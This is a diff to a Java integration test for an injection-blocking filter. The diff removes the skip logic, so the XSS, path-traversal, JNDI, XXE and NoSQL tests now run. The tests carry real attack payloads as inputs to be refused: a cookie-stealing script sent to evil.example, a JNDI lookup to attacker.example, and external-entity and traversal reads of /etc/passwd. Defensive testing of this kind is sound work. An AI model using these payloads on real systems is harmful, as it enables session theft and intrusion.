@@ -3,7 +3,6 @@ package io.bulwark.it;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
-import static org.junit.jupiter.api.Assumptions.assumeTrue;
 
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
@@ -23,7 +22,6 @@ import java.nio.file.Files;
 import java.nio.file.Path;
 import java.security.MessageDigest;
 import java.util.Random;
-import java.util.Set;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
@@ -37,12 +35,6 @@ import org.junit.jupiter.api.TestInstance;
  */
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
 abstract class InjectionProtectionTest {
-
-  /**
-   * The categories whose detectors are in this build (io.bulwark.policy.detect.Detectors.standard()).
-   * The others' exploits are skipped, not passed, until their detectors are merged.
-   */
-  static final Set<String> DETECTORS = Set.of("sqli");
 
   private static final ObjectMapper JSON = new ObjectMapper();
   private static final String POLICY = """
@@ -116,7 +108,6 @@ abstract class InjectionProtectionTest {
 
   @Test
   void xssInAFormFieldIsRefusedExceptWhereThePolicyExcludesIt() throws Exception {
-    assumeDetector("xss");
     String body = "title=News&html=" + encode("<script>document.location='//evil.example/?c='+document.cookie</script>");
     JsonNode event = refused(post("/echo/form", "application/x-www-form-urlencoded", body), "xss");
 
@@ -127,7 +118,6 @@ abstract class InjectionProtectionTest {
 
   @Test
   void pathTraversalInAParameterIsRefused() throws Exception {
-    assumeDetector("path-traversal");
     JsonNode event = refused(get("/echo/files?name=" + encode("../../../../etc/passwd")), "path-traversal");
 
     assertEquals("query.name", event.path("threat").path("location").asText());
@@ -135,7 +125,6 @@ abstract class InjectionProtectionTest {
 
   @Test
   void aJndiLookupInAHeaderIsRefused() throws Exception {
-    assumeDetector("jndi");
     JsonNode event = refused(send(HttpRequest.newBuilder(uri("/echo/status"))
         .header("X-Api-Version", "${jndi:ldap://attacker.example:1389/a}").GET()), "jndi");
 
@@ -144,7 +133,6 @@ abstract class InjectionProtectionTest {
 
   @Test
   void anXmlBodyWithAnExternalEntityIsRefused() throws Exception {
-    assumeDetector("xxe");
     JsonNode event = refused(post("/echo/stream", "application/xml", """
         <?xml version="1.0"?>
         <!DOCTYPE order [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
@@ -156,7 +144,6 @@ abstract class InjectionProtectionTest {
 
   @Test
   void aNoSqlOperatorInAJsonBodyIsRefused() throws Exception {
-    assumeDetector("nosqli");
     JsonNode event = refused(post("/echo/stream", "application/json",
         "{\"user\":\"admin\",\"password\":{\"$ne\":null}}"), "nosqli");
 
@@ -247,10 +234,6 @@ abstract class InjectionProtectionTest {
   }
 
   // ---- helpers --------------------------------------------------------------------------------
-
-  private static void assumeDetector(String technique) {
-    assumeTrue(DETECTORS.contains(technique), "the " + technique + " detector is not in this build yet");
-  }
 
   /** Asserts a 403 injection problem, that the app never ran, and returns the request's audit event. */
   private JsonNode refused(HttpResponse<String> response, String technique) throws IOException {
